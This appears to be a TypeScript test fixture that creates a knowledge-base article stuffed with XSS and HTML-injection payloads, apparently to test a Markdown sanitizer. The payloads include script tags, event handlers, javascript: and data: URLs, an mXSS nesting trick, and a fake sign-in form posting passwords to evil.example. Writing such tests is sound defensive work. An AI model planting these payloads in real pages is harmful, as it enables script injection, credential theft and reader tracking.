import type { Article } from '../../../shared/model/reference.ts';
import { fakeContext } from '../../../shared/testkit/factories.ts';
import { createDocument } from '../../../shared/workflow/record-commands.ts';

const RUN = 'globalThis.hostileRan=true';

/** Ways in which a text tries to run, to send or to take the page over; seen in the wild. */
const MARKDOWN = `
# Looks harmless

<script>${RUN}</script>
<img src=x onerror="${RUN}">
<svg onload="${RUN}"><script>${RUN}</script></svg>
<iframe src="javascript:${RUN}"></iframe>
<iframe srcdoc="<script>parent.hostileRan=true</script>"></iframe>
<object data="data:text/html,<script>${RUN}</script>"></object>
<embed src="javascript:${RUN}">
<form action="https://evil.example/steal"><input name="password"><button>Sign in again</button></form>
<a href="javascript:${RUN}">a link</a>
<a href="  jAvAsCrIpT:${RUN}">another</a>
<a href="data:text/html,<script>${RUN}</script>">data</a>
<details open ontoggle="${RUN}">more</details>
<style>body { display: none }</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<div id="root" class="app" style="position:fixed;inset:0">over everything</div>
<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>

[a Markdown link](javascript:${RUN} "x") and [one more](vbscript:${RUN})
![a picture](https://evil.example/pixel.png "tracks who reads")
![another](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)
<https://evil.example/autolink>

\`\`\`html
<script>${RUN}</script>
\`\`\`

The end of the article.
`;

/** An article that a server with bad intentions, or a careless author, may hold. */
export function hostileArticle(): Article {
  const context = fakeContext({ userName: 'annika.vogel' }, 99, Date.now());
  const { writes } = createDocument(
    'articles',
    {
      kind: 'article',
      number: 'KB-6666',
      slug: 'hostile-words',
      title: 'Hostile words in an article',
      summary: 'Tries everything.',
      markdown: MARKDOWN,
      category: 'Security',
      tags: [],
      related: [],
      audience: 'agents',
      author: 'annika.vogel',
      state: 'published',
      lang: 'en',
      revisedAt: new Date().toISOString(),
    },
    context(),
  );
  return writes[0]!.document as Article;
}
